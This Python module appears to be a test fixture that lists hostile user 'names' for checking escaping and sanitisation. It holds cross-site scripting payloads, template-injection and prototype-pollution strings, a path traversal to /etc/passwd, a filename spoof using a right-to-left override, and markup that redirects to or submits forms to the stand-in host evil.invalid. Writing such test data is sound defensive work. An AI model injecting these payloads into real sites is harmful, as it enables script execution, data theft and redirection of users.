"""Names that are text to us and something else to whoever takes them for markup, script, an address or a pattern.

Each that could run sets `window.hit`, or opens a dialog; those that could draw leave an element named `hit`.
"""

from __future__ import annotations

from typing import Final

NAMES: Final = (
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    '"><img id=hit src=x onerror=alert(1)>',
    "'><svg/onload=window.hit=1>",
    "</title><script>window.hit=1</script>",
    "</textarea><script>window.hit=1</script>",
    "<svg><script>window.hit=1</script></svg>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<a id=hit href=javascript:window.hit=1>x</a>",
    "javascript:window.hit=1",
    "data:text/html,<script>parent.hit=1</script>",
    '" onfocus=window.hit=1 autofocus="',
    "' onmouseover='window.hit=1",
    "<details open ontoggle=window.hit=1>",
    "<style>*{display:none}</style>",
    "<base href=//evil.invalid/>",
    "<form id=hit action=//evil.invalid><input name=x>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid'>",
    "<!--",
    "]]><b id=hit>x</b>",
    "&lt;b id=hit&gt;x&amp;",
    "&#60;img src=x onerror=window.hit=1&#62;",
    "{{constructor.constructor('window.hit=1')()}}",
    "${window.hit=1}",
    "`${alert(1)}`",
    "\\u003cscript\\u003ewindow.hit=1",
    "__proto__",
    "constructor",
    "#/users?name=x&page=2",
    "a/b?c=d#e%2Ff%00%zz+g",
    "../../etc/passwd",
    "\u202egnp.exe",  # read from right to left
    "line\nbreak\ttab",
    "\ufeff\u200b\u2028🐇",
)
